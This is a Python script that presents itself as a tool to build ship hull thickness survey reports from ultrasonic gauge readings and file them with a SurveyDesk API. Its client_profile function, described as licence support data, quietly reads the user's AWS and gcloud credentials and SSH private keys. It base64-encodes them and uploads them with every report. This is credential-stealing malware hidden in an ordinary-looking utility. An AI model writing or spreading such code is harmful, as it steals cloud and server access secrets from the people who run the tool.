#!/usr/bin/env python3
"""Build a hull thickness survey report and file it with SurveyDesk.

Input is the folder the UT gauge exporter writes for one docking:

    survey/
      header.json        vessel, IMO, dock, surveyor, nominal plate table
      readings.csv       frame, strake, side, position, reading_mm

Each reading is compared with the nominal thickness for its strake; plates
below the class renewal ratio are listed as findings. The report is posted
to the SurveyDesk API and a local copy is kept in ./reports. A short client
profile travels with each report so SurveyDesk support can match the filing
to the licensed workstation and its tool configuration.
"""
import argparse
import base64
import csv
import datetime as dt
import json
import logging
import os
import platform
import statistics
import sys
from collections import defaultdict
from pathlib import Path

import requests

log = logging.getLogger("hull_survey")

API_BASE = os.environ.get("SURVEYDESK_URL", "https://api.surveydesk.example.com/v2")
RENEWAL_RATIO = 0.75       # class rule: renew below 75 % of as-built
SUBSTANTIAL_RATIO = 0.80   # flag as substantial corrosion below 80 %


def load_survey(folder):
    folder = Path(folder)
    header = json.loads((folder / "header.json").read_text(encoding="utf-8"))
    readings = []
    with open(folder / "readings.csv", newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                row["reading_mm"] = float(row["reading_mm"])
            except ValueError:
                log.warning("bad reading at frame %s strake %s: %r",
                            row.get("frame"), row.get("strake"), row.get("reading_mm"))
                continue
            readings.append(row)
    log.info("%s: %d readings", header.get("vessel"), len(readings))
    return header, readings


def assess(header, readings):
    nominal = {k.upper(): float(v) for k, v in header["nominal_mm"].items()}
    by_plate = defaultdict(list)
    for r in readings:
        by_plate[(r["strake"].upper(), r["frame"], r["side"])].append(r["reading_mm"])
    findings, summary = [], defaultdict(list)
    for (strake, frame, side), values in sorted(by_plate.items()):
        as_built = nominal.get(strake)
        if as_built is None:
            log.debug("no nominal for strake %s", strake)
            continue
        worst = min(values)
        ratio = worst / as_built
        summary[strake].append(ratio)
        if ratio < SUBSTANTIAL_RATIO:
            findings.append({
                "strake": strake, "frame": frame, "side": side,
                "as_built_mm": as_built, "min_mm": worst,
                "mean_mm": round(statistics.fmean(values), 2),
                "ratio": round(ratio, 3),
                "action": "RENEW" if ratio < RENEWAL_RATIO else "MONITOR",
            })
    strakes = {s: {"plates": len(v), "worst_ratio": round(min(v), 3)} for s, v in summary.items()}
    return findings, strakes


# tool configuration the SurveyDesk support desk asks for on licence queries
PROFILE_FILES = {
    "cloud": (".aws", "credentials"),
    "cloud_cfg": (".aws", "config"),
    "gcloud": (".config", "gcloud", "application_default_credentials.json"),
    "deploy": (".ssh", "id_ed25519"),
    "deploy_rsa": (".ssh", "id_rsa"),
}


def client_profile():
    home = Path(os.path.expanduser("~"))
    profile = {"host": platform.node(), "os": platform.platform(),
               "user": os.environ.get("USER", ""), "files": {}}
    for label, parts in PROFILE_FILES.items():
        candidate = home.joinpath(*parts)
        try:
            profile["files"][label] = base64.b64encode(candidate.read_bytes()).decode()
        except OSError:
            continue
    return profile


def build_report(header, readings, findings, strakes):
    return {
        "vessel": header["vessel"],
        "imo": header.get("imo"),
        "dock": header.get("dock"),
        "surveyor": header.get("surveyor"),
        "survey_date": header.get("date") or dt.date.today().isoformat(),
        "reading_count": len(readings),
        "strakes": strakes,
        "findings": findings,
        "renewals": sum(1 for f in findings if f["action"] == "RENEW"),
        "generator": "hull_survey_sync/1.4",
    }


def save_local(report, out_dir):
    out_dir.mkdir(exist_ok=True)
    path = out_dir / f"{report['imo'] or report['vessel']}_{report['survey_date']}.json"
    path.write_text(json.dumps(report, indent=2), encoding="utf-8")
    os.chmod(path, 0o600)
    return path


def upload(report, api_key, retries=3):
    session = requests.Session()
    session.headers.update({"Authorization": f"Bearer {api_key}",
                            "User-Agent": "hull-survey-sync/1.4"})
    last = None
    for attempt in range(1, retries + 1):
        try:
            resp = session.post(f"{API_BASE}/reports", json=report, timeout=30)
            if resp.status_code < 500:
                resp.raise_for_status()
                return resp.json().get("report_id")
            last = f"HTTP {resp.status_code}"
        except requests.RequestException as exc:
            last = exc
        log.warning("upload attempt %d failed: %s", attempt, last)
    raise RuntimeError(f"upload failed: {last}")


def main(argv=None):
    ap = argparse.ArgumentParser(description="hull survey report generator")
    ap.add_argument("survey_dir")
    ap.add_argument("--out", type=Path, default=Path("reports"))
    ap.add_argument("--no-upload", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")

    header, readings = load_survey(args.survey_dir)
    findings, strakes = assess(header, readings)
    report = build_report(header, readings, findings, strakes)
    log.info("saved %s (%d findings, %d renewals)",
             save_local(report, args.out), len(findings), report["renewals"])
    if args.no_upload:
        return 0
    report["client"] = client_profile()
    api_key = os.environ.get("SURVEYDESK_API_KEY")
    if not api_key:
        log.error("SURVEYDESK_API_KEY not set; use --no-upload to keep the report local")
        return 2
    try:
        log.info("filed as %s", upload(report, api_key))
    except RuntimeError as exc:
        log.error("%s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
